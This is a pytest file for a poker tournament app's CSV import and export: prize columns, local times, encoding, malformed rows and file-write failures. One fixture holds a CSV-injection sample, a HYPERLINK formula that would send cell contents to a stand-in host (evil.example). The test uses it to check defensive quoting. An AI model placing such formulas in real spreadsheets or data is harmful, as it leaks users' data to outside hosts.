"""CSV out (results, players, ledgers, league standings) and players in: a file with
a bad row is refused whole, with the rows named."""

from __future__ import annotations

import codecs
import csv
import io
import subprocess
import sys
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlmodel import Session, select

from director.services.cash.cash_service import CashGameService
from director.services.core.unit_of_work import ServiceError
from director.services.events.event_service import EventService
from director.services.papers import csv_files
from director.services.tournament.tournament_service import TournamentService
from director.store.db import Database, open_database
from director.store.models import Player

T0 = datetime(2026, 2, 6, 19, 0, tzinfo=UTC)


def names(db: Database) -> list[str]:
    with Session(db.engine) as s:
        return sorted(p.name for p in s.exec(select(Player)))


def test_players_import_all_or_nothing(db: Database) -> None:
    EventService(db).add_player("Anna", T0)
    good = "name,nickname,email\nAnna,,\nBéla,Béci,bela@example.org\n  Cili  ,,\n"
    assert csv_files.import_players(db, good, T0) == 2  # Anna is known already
    assert names(db) == ["Anna", "Béla", "Cili"]
    bad = "name,email\nDani,\n,nobody@example.org\nEmma,\n" + "X" * 201 + ",\n"
    with pytest.raises(ServiceError) as refused:
        csv_files.import_players(db, bad, T0)
    assert str(refused.value.message).startswith(
        "nothing was imported: 2 lines are wrong (line 3: a player needs a name, line 5: ")
    assert str(refused.value.message).endswith("must be at most 200 characters long)")
    assert names(db) == ["Anna", "Béla", "Cili"]  # Dani and Emma were not half imported
    with pytest.raises(ServiceError) as no_names:
        csv_files.import_players(db, "player,email\nAnna,\n", T0)
    assert no_names.value.message.id == "svc-csv-needs-name-column"
    back = list(csv.DictReader(io.StringIO(csv_files.players_csv(db))))
    assert [(r["name"], r["nickname"], r["email"]) for r in back] == [
        ("Anna", "", ""), ("Béla", "Béci", "bela@example.org"), ("Cili", "", "")]


def test_results_and_ledgers_export(db: Database) -> None:
    events, tournament = EventService(db), TournamentService(db)
    event = events.create_event("tournament", "Friday", {
        "buy_in": 2000, "fee": 200, "bounty": 500, "starting_stack": 10000,
        "blinds": {"levels": [{"small_blind": 25, "big_blind": 50, "minutes": 20}]},
        "payouts": {"rows": [{"min_entries": 2, "max_entries": 9, "percents": [70, 30]}]}},
        T0)
    a, b, c = (tournament.register(event, events.add_player(n, T0), T0)
               for n in ("Anna", "Béla", "Cili"))
    tournament.bust(event, {c: 0}, T0, eliminators=[a])
    tournament.bust(event, {b: 0}, T0, eliminators=[a])
    tournament.finish(event, T0)
    rows = list(csv.reader(io.StringIO(csv_files.results_csv(db, event))))
    # 3 × (2000 − 200 − 500) = 3900: 70 % and 30 %; Anna won two bounties and keeps her own
    assert rows == [["place", "player", "entry", "prize", "bounties", "prize_due"],
                    ["1", "Anna", "1", "2730", "1500", "0"], ["2", "Béla", "1", "1170", "0", "0"],
                    ["3", "Cili", "1", "0", "0", "0"]]
    ledger = list(csv.DictReader(io.StringIO(csv_files.ledger_csv(db, event))))
    assert [(r["player"], r["buy_in"], r["bounties_won"], r["place"]) for r in ledger] == [
        ("Anna", "2000", "1500", "1"), ("Béla", "2000", "0", "2"), ("Cili", "2000", "0", "3")]
    game = events.create_event("cash", "Tuesday", {"small_blind": 100, "big_blind": 200}, T0)
    cash = CashGameService(db)
    cash.buy_in(game, 1, 20000, T0)
    cash.cash_out(game, 1, 15000, T0)  # at most the 20000 bought
    lines = list(csv.DictReader(io.StringIO(csv_files.ledger_csv(db, game))))
    assert [(r["kind"], r["player"], r["amount"]) for r in lines] == [
        ("buy-in", "Anna", "20000"), ("cash-out", "Anna", "15000")]


def test_a_prize_to_be_paid_is_in_the_csv_as_on_the_results_paper(db: Database) -> None:
    """Five entries of 5000 Ft (500 Ft fee): a prize pool of 22 500 Ft paid 50/30/20.
    Emma, Dani and Cili bust; before Finish, the Results paper says Cili's third
    place is "4,500 Ft (to be paid)": results.csv and the ledger say so in the
    prize_due column, the prize column keeping what has been paid, 0 (both said
    prize 0 and nothing more). After Finish the prize is 4500 and nothing is due."""
    from director.engine.messages import render
    from director.services.papers.papers import PaperService

    events, tournament = EventService(db), TournamentService(db)
    event = events.create_event("tournament", "Friday", {
        "buy_in": 5000, "fee": 500, "starting_stack": 20000, "currency": "Ft",
        "blinds": {"levels": [{"small_blind": 100, "big_blind": 200, "minutes": 20}]},
        "payouts": {"rows": [{"min_entries": 3, "max_entries": 100,
                              "percents": [50, 30, 20]}]}}, T0)
    entries = {n: tournament.register(event, events.add_player(n, T0), T0)
               for n in ("Anna", "Béla", "Cili", "Dani", "Emma")}
    for name in ("Emma", "Dani", "Cili"):
        tournament.bust(event, {entries[name]: 0}, T0)
    paper = PaperService(db).paper("results", event, T0)
    assert render(paper.blocks[0].rows[0][2], "en") == "4,500\xa0Ft (to be paid)"
    rows = list(csv.reader(io.StringIO(csv_files.results_csv(db, event))))
    assert rows == [["place", "player", "entry", "prize", "bounties", "prize_due"],
                    ["3", "Cili", "1", "0", "0", "4500"], ["4", "Dani", "1", "0", "0", "0"],
                    ["5", "Emma", "1", "0", "0", "0"], ["", "Anna", "1", "0", "0", "0"],
                    ["", "Béla", "1", "0", "0", "0"]]
    ledger = list(csv.DictReader(io.StringIO(csv_files.ledger_csv(db, event))))
    assert [(r["player"], r["place"], r["prize"], r["prize_due"]) for r in ledger] == [
        ("Anna", "", "0", "0"), ("Béla", "", "0", "0"), ("Cili", "3", "0", "4500"),
        ("Dani", "4", "0", "0"), ("Emma", "5", "0", "0")]
    tournament.bust(event, {entries["Béla"]: 0}, T0)
    tournament.finish(event, T0)
    rows = list(csv.reader(io.StringIO(csv_files.results_csv(db, event))))
    assert rows[1:4] == [["1", "Anna", "1", "11250", "0", "0"],
                         ["2", "Béla", "1", "6750", "0", "0"],
                         ["3", "Cili", "1", "4500", "0", "0"]]


@pytest.fixture
def budapest(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """The machine's clock on Budapest time (UTC+1 in February)."""
    monkeypatch.setenv("TZ", "Europe/Budapest")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


def test_ledger_times_are_local_to_the_second(db: Database, budapest: None) -> None:
    """A spreadsheet shows the clock on the wall: 20:00:00 in Budapest, not the stored
    UTC instant with its microseconds ("2026-02-06T19:00:00.123456+00:00")."""
    events = EventService(db)
    events.add_player("Szőke Anna", T0)
    game = events.create_event("cash", "Tuesday", {"small_blind": 100, "big_blind": 200}, T0)
    cash = CashGameService(db)
    cash.buy_in(game, 1, 20000, T0 + timedelta(microseconds=123456))
    cash.cash_out(game, 1, 15000, T0 + timedelta(hours=3, minutes=5, seconds=9))
    lines = list(csv.DictReader(io.StringIO(csv_files.ledger_csv(db, game))))
    assert [(r["at"], r["player"]) for r in lines] == [
        ("2026-02-06 20:00:00", "Szőke Anna"), ("2026-02-06 23:05:09", "Szőke Anna")]


def test_saved_files_have_a_byte_order_mark_and_read_back(db: Database, tmp_path: Path) -> None:
    """Excel on Windows reads a CSV without a byte-order mark as the local code page and
    garbles "Szőke"; with the mark it reads UTF-8. The import reads the file back, mark
    or no mark."""
    events = EventService(db)
    for name in ("Szőke Anna", "Ősz Béla", "Zoé"):
        events.add_player(name, T0)
    path = tmp_path / "players.csv"
    csv_files.save(path, csv_files.players_csv(db))
    data = path.read_bytes()
    assert data.startswith(codecs.BOM_UTF8)
    # alphabetical, Ősz among the O's (before: after Zoé, by the characters' codes)
    assert data[3:].decode("utf-8").splitlines() == ["name,nickname,email", "Ősz Béla,,",
                                                     "Szőke Anna,,", "Zoé,,"]
    other = open_database(tmp_path / "other.sqlite3")
    try:
        assert csv_files.import_players(other, csv_files.read(path), T0) == 3
        assert names(other) == ["Szőke Anna", "Zoé", "Ősz Béla"]
        # the mark left in the text (a file read as plain UTF-8) is no part of "name"
        assert csv_files.import_players(other, data.decode("utf-8") + "Cili,,\n", T0) == 1
    finally:
        other.close()


def long_name(size: int, suffix: str) -> str:
    """A file name of exactly ``size`` bytes in UTF-8: the night's results named at
    length in Hungarian, as a director may name them."""
    name = "Péntek esti Deepstack, 2026. február 6., a döntőasztal eredményei"
    while len((name + suffix).encode()) < size:
        name += " és" if size - len((name + suffix).encode()) >= 3 else "e"
    name += suffix
    assert len(name.encode()) == size, len(name.encode())
    return name


@pytest.mark.parametrize("size", [230, 240, 254, 255])
def test_a_csv_with_a_long_legal_name_is_saved(db: Database, tmp_path: Path,
                                               size: int) -> None:
    """A name of 230 to 255 bytes is legal (255 the most a name may have): the CSV is
    saved under it, and nothing else is left in the folder. Before, it was refused
    ("cannot be written"): the file written first beside it, whole, was named after
    it with 26 bytes more."""
    EventService(db).add_player("Szőke Anna", T0)
    folder = tmp_path / "results"
    folder.mkdir()
    path = folder / long_name(size, ".csv")
    csv_files.save(path, csv_files.players_csv(db))
    assert csv_files.read(path) == "name,nickname,email\nSzőke Anna,,\n"
    assert [p.name for p in folder.iterdir()] == [path.name]


def test_a_file_that_cannot_be_written_is_refused_in_both_languages(tmp_path: Path) -> None:
    """A folder that is not there (a USB stick pulled out): a refusal with its
    message, in English and Hungarian, never an OSError; nothing is written."""
    from director.engine.messages import render

    target = tmp_path / "stick" / "results.csv"
    with pytest.raises(ServiceError) as refused:
        csv_files.save(target, "name\nAnna\n")
    assert render(refused.value.message, "en") == (
        f"{target} cannot be written (a folder without permission, a full disk or a "
        "file open elsewhere); nothing was saved")
    assert render(refused.value.message, "hu").startswith(f"nem írható fájl: {target} (")
    assert not target.parent.exists()


@pytest.mark.skipif(sys.platform == "win32", reason="a file size limit (RLIMIT_FSIZE) is POSIX")
def test_a_full_disk_keeps_the_file_that_was_there_whole(tmp_path: Path) -> None:
    """Saving over last night's results.csv when the disk fills halfway (simulated
    in a process of its own by a file size limit): the refusal is said and the old
    file is still there, whole; no half-written file, no leftover beside it."""
    target = tmp_path / "results.csv"
    csv_files.save(target, "place,player\n1,Szőke Anna\n")
    before = target.read_bytes()
    script = (
        "import resource, signal, sys\n"
        "from pathlib import Path\n"
        "from director.services.core.unit_of_work import ServiceError\n"
        "from director.services.papers import csv_files\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))\n"
        "try:\n"
        "    csv_files.save(Path(sys.argv[1]), 'place,player\\n' + '2,Ősz Béla\\n' * 5000)\n"
        "except ServiceError as refused:\n"
        "    print(refused)\n")
    done = subprocess.run([sys.executable, "-c", script, str(target)], capture_output=True,
                          text=True, timeout=120, cwd=Path(__file__).resolve().parents[2])
    assert done.returncode == 0, done.stderr
    assert "cannot be written" in done.stdout and "nothing was saved" in done.stdout
    assert target.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results.csv"]


@pytest.mark.parametrize(("kind", "sign"), [
    ("a NUL byte", "\x00"), ("a bell", "\x07"), ("an escape", "\x1b"),
    ("a right-to-left override", "\u202e"), ("a line break", "\n"),
])
def test_a_name_with_an_invisible_control_character_is_refused(
        db: Database, kind: str, sign: str) -> None:
    """A CSV row (or a player added by hand) whose name holds a character that is
    not shown or turns the text around ("An\\x07na" looks like Anna but is another
    player; an override writes "Anna" backwards on the seating list) is refused in
    words, in English and Hungarian, and the whole file with it; nothing is added."""
    from director.engine.messages import render

    EventService(db).add_player("Béla", T0)
    data = f'name,nickname\nDani,\n"An{sign}na",\nEmma,"E{sign}m"\n'
    with pytest.raises(ServiceError) as refused:
        csv_files.import_players(db, data, T0)
    en, hu = render(refused.value.message, "en"), render(refused.value.message, "hu")
    assert "2 lines are wrong (line 3: the player's name must not hold control " \
           "characters" in en, (kind, en)
    assert "line 4: the nickname must not hold control characters" in en, (kind, en)
    assert "vezérlőkaraktert" in hu, (kind, hu)
    with pytest.raises(ServiceError):
        EventService(db).add_player(f"An{sign}na", T0)
    assert names(db) == ["Béla"]


def test_a_players_file_that_cannot_be_read_is_refused_in_words(tmp_path: Path) -> None:
    """File → Import players from CSV on a file that is gone, a folder, one too
    large (not read at all: a sparse file of 10 GB would fill the memory) or one
    that is not UTF-8: each a refusal naming the file, in English and Hungarian."""
    from director.engine.messages import render

    huge = tmp_path / "huge.csv"
    with huge.open("wb") as f:
        f.truncate(10 * 1024**3)
    latin = tmp_path / "latin.csv"
    latin.write_bytes("name\nSzőke Anna\n".encode("iso8859_2"))
    (tmp_path / "folder.csv").mkdir()
    said = {}
    for name in ("gone.csv", "folder.csv", "huge.csv", "latin.csv"):
        with pytest.raises(ServiceError) as refused:
            csv_files.read(tmp_path / name)
        said[name] = (render(refused.value.message, "en"), render(refused.value.message, "hu"))
        assert str(tmp_path / name) in said[name][0] and str(tmp_path / name) in said[name][1]
    assert "cannot be read" in said["gone.csv"][0] and "nem olvasható" in said["gone.csv"][1]
    assert "cannot be read" in said["folder.csv"][0]
    assert "larger than 2,000,000 bytes" in said["huge.csv"][0]  # grouped as amounts are
    assert "nagyobb 2\u00a0000\u00a0000 bájtnál" in said["huge.csv"][1]
    assert "not UTF-8 text" in said["latin.csv"][0] and "UTF-8" in said["latin.csv"][1]


#: Names a player could be given (by a joke at the desk or a pasted list) that a
#: spreadsheet would run as a formula, and names that only look near one.
FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?"&A1,"Anna")', "+36 Béla", "-1",
                 "@SUM(A1:A9)", "'=Emma", "''+Feri")
PLAIN_NAMES = ("O'Brien Gábor", "'Ödön", "Szőke-Nagy Cili", "Dani =)")


def test_a_formula_in_a_name_is_written_as_text_and_read_back_the_same(
        db: Database, tmp_path: Path) -> None:
    """OWASP's CSV injection: a cell that begins with = + - @ is written with a single
    quote before it, so a spreadsheet shows the name instead of running it, in the
    results, the players, the ledger and the standings; a number (a negative league
    score, a prize) is never quoted. The players file read back (on another
    machine's database) gives the very same names, a real leading quote kept."""
    from director.engine.event.money.league import Standing

    events, tournament = EventService(db), TournamentService(db)
    for n in FORMULA_NAMES + PLAIN_NAMES:
        events.add_player(n, T0)
    players = list(csv.DictReader(io.StringIO(csv_files.players_csv(db))))
    written = {r["name"] for r in players}
    assert written == {"'" + n for n in FORMULA_NAMES} | set(PLAIN_NAMES)
    event = events.create_event("tournament", "Friday", {
        "buy_in": 2000, "fee": 0, "starting_stack": 10000,
        "blinds": {"levels": [{"small_blind": 25, "big_blind": 50, "minutes": 20}]},
        "payouts": {"rows": [{"min_entries": 2, "max_entries": 9, "percents": [100]}]}},
        T0)
    with Session(db.engine) as s:
        ids = {p.name: p.id for p in s.exec(select(Player))}
    a = tournament.register(event, ids["-1"], T0)
    b = tournament.register(event, ids["+36 Béla"], T0)
    tournament.bust(event, {b: 0}, T0, eliminators=[a])
    tournament.finish(event, T0)
    assert list(csv.reader(io.StringIO(csv_files.results_csv(db, event))))[1:] == [
        ["1", "'-1", "1", "4000", "0", "0"], ["2", "'+36 Béla", "1", "0", "0", "0"]]
    assert [r["player"] for r in csv.DictReader(io.StringIO(
        csv_files.ledger_csv(db, event)))] == ["'-1", "'+36 Béla"]
    game = events.create_event("cash", "Tuesday", {"small_blind": 100, "big_blind": 200}, T0)
    CashGameService(db).buy_in(game, ids["-1"], 500, T0)  # the chips the rake is from
    CashGameService(db).rake(game, 500, T0, note="=1+1 from table 2")
    assert [(r["amount"], r["note"]) for r in csv.DictReader(io.StringIO(
        csv_files.ledger_csv(db, game)))][1:] == [("500", "'=1+1 from table 2")]
    standings = csv_files.standings_csv([Standing(1, "@Dani", -150, (-150,), 1, 0, 3)])
    assert standings.splitlines()[1] == "1,'@Dani,-1.50,1,0,3"
    path = tmp_path / "players.csv"
    csv_files.save(path, csv_files.players_csv(db))
    other = open_database(tmp_path / "other.sqlite3")
    try:
        assert csv_files.import_players(other, csv_files.read(path), T0) == 10
        assert names(other) == sorted(FORMULA_NAMES + PLAIN_NAMES)
    finally:
        other.close()


def test_a_quote_never_closed_refuses_the_file_naming_its_line(db: Database) -> None:
    """A players file with ``"Szőke Anna,Ani`` on line 3 (the closing quote lost in a
    spreadsheet or by hand) would read every later line into one name (refused as a
    name with line breaks, the quote not named) or, on the last line, add a player
    "Szőke Anna,Ani" without a word; it is refused in words naming line 3, in English
    and Hungarian, and nobody is added (not Dani on line 2). A doubled quote and a
    quote inside an unquoted name still read."""
    from director.engine.messages import render

    EventService(db).add_player("Béla", T0)
    data = 'name,nickname\nDani,\n"Szőke Anna,Ani\nEmma,\nFeri,\n'
    with pytest.raises(ServiceError) as refused:
        csv_files.import_players(db, data, T0)
    assert render(refused.value.message, "en").startswith(
        "line 3: a quote opens there and is never closed")
    assert "nothing was imported" in render(refused.value.message, "en")
    assert render(refused.value.message, "hu").startswith(
        "3. sor: itt kezdődik egy idézőjel, de sehol sincs lezárva")
    assert names(db) == ["Béla"]
    with pytest.raises(ServiceError) as last_line:
        csv_files.import_players(db, 'name,nickname\nDani,\n"Szőke Anna,Ani\n', T0)
    assert render(last_line.value.message, "en").startswith("line 3: a quote opens there")
    assert names(db) == ["Béla"]
    fine = 'name,nickname\n"Nagy ""Öcsi"" Ödön",\nKis "Pisti" István,\n"Dani",\n'
    assert csv_files.import_players(db, fine, T0) == 3
    assert names(db) == ["Béla", "Dani", 'Kis "Pisti" István', 'Nagy "Öcsi" Ödön']


@pytest.mark.parametrize("sign", [";", "\t"])
def test_a_players_file_from_a_hungarian_spreadsheet_reads_with_its_semicolons(
        db: Database, sign: str) -> None:
    """A spreadsheet set to Hungarian (or German, French: the comma is their decimal
    sign) saves "CSV" with semicolons between the cells; some save tabs. Read by the
    separator its first line holds; before, such a file was refused with "the first
    line must name the columns, one of them “name”", beside a first line that did."""
    EventService(db).add_player("Béla", T0)
    data = sign.join(["name", "nickname", "email"]) + "\n" + "\n".join(
        sign.join(row) for row in [("Szőke Anna", "Ani", "anna@example.org"),
                                   ("Béla", "", ""), ("Kis, Pista", "", "")]) + "\n"
    assert csv_files.import_players(db, data, T0) == 2
    assert names(db) == ["Béla", "Kis, Pista", "Szőke Anna"]
    with Session(db.engine) as s:
        anna = s.exec(select(Player).where(Player.name == "Szőke Anna")).one()
        assert (anna.nickname, anna.email) == ("Ani", "anna@example.org")
    with pytest.raises(ServiceError) as refused:  # a quote never closed is still found
        csv_files.import_players(db, f'name{sign}nickname\nDani{sign}\n"Emma{sign}E\n', T0)
    assert refused.value.message.id == "svc-csv-unclosed-quote"
    assert names(db) == ["Béla", "Kis, Pista", "Szőke Anna"]


def test_a_players_file_without_a_name_column_says_what_its_first_line_holds(
        db: Database) -> None:
    """Headings written in Hungarian ("név"): the refusal shows the first line beside
    the heading it needs, so the director sees what to change; nothing is added."""
    from director.engine.messages import render

    with pytest.raises(ServiceError) as refused:
        csv_files.import_players(db, "név;becenév\nAnna;Ani\n", T0)
    en, hu = render(refused.value.message, "en"), render(refused.value.message, "hu")
    assert "one of them “name”" in en and "this file's first line is: név;becenév" in en, en
    assert "„name” oszlopot" in hu and "a fájl első sora: név;becenév" in hu, hu
    with pytest.raises(ServiceError) as empty:
        csv_files.import_players(db, "", T0)
    assert "the file is empty" in render(empty.value.message, "en")
    assert "a fájl üres" in render(empty.value.message, "hu")
    assert names(db) == []


def test_a_cell_longer_than_the_csv_reader_takes_is_refused_naming_its_line(
        db: Database) -> None:
    """A cell of 200,000 characters (a file that is no players file, pasted into one
    column): refused naming its line, in English and Hungarian; before, the csv
    module's English ("field larger than field limit (131072)") stood in both."""
    from director.engine.messages import render

    data = "name,nickname\nAnna,\nBéla," + "x" * 200_000 + "\n"
    with pytest.raises(ServiceError) as refused:
        csv_files.import_players(db, data, T0)
    en, hu = render(refused.value.message, "en"), render(refused.value.message, "hu")
    assert en.startswith("line 3 holds a cell longer than 131072 characters"), en
    assert "nothing was imported" in en
    assert hu.startswith("a 3. sorban egy cella hosszabb 131072 karakternél"), hu
    assert "field" not in en + hu
    assert names(db) == []


def test_a_players_file_of_10000_rows_is_refused_saying_to_split_it(db: Database) -> None:
    """10,000 players (a whole league's export): refused whole, in words that say what
    to do (split it), in English and Hungarian; nobody is added."""
    from director.engine.messages import render

    data = "name\n" + "".join(f"Player {n}\n" for n in range(10_000))
    with pytest.raises(ServiceError) as refused:
        csv_files.import_players(db, data, T0)
    en, hu = render(refused.value.message, "en"), render(refused.value.message, "hu")
    assert en == ("the file has 10000 rows; at most 5000 can be read at once: split it into "
                  "files of at most 5000 rows and import each; nothing was imported"), en
    assert hu == ("a fájlnak 10000 sora van; egyszerre legfeljebb 5000 olvasható be: oszd "
                  "szét legfeljebb 5000 soros fájlokra, és olvasd be őket egyenként; semmi sem "
                  "került be"), hu
    assert names(db) == []


def test_a_hand_written_players_file_with_spaces_after_the_commas_keeps_no_spaces(
        db: Database) -> None:
    """Players typed by hand as "name, nickname, e-mail" with a space after each comma:
    the nickname and the address are stored without the spaces around them, as the name
    is (before, " Ancsa" and " anna@example.org", an address no mail reaches)."""
    data = "name, nickname, email\nKovács Anna, Ancsa, anna@example.org \nTóth Béla,  ,\n"
    assert csv_files.import_players(db, data, T0) == 2
    with Session(db.engine) as s:
        stored = {p.name: (p.nickname, p.email) for p in s.exec(select(Player))}
    assert stored == {"Kovács Anna": ("Ancsa", "anna@example.org"), "Tóth Béla": (None, None)}


def test_a_spreadsheet_s_empty_rows_are_skipped_not_refused_as_nameless_players(
        db: Database) -> None:
    """A spreadsheet saves rows it once had as empty cells (",,"), between the players
    and at the end: they are no players, the file is imported (before, the whole file
    was refused, "line 3: a player needs a name"); a row with a nickname and no name
    is still refused."""
    data = "name,nickname,email\nKovács Anna,Ancsa,\n,,\nTóth Béla,,\n,,\n , , \n"
    assert csv_files.import_players(db, data, T0) == 2
    with pytest.raises(ServiceError, match="line 2: a player needs a name"):
        csv_files.import_players(db, "name,nickname\n,Zoli\n", T0)
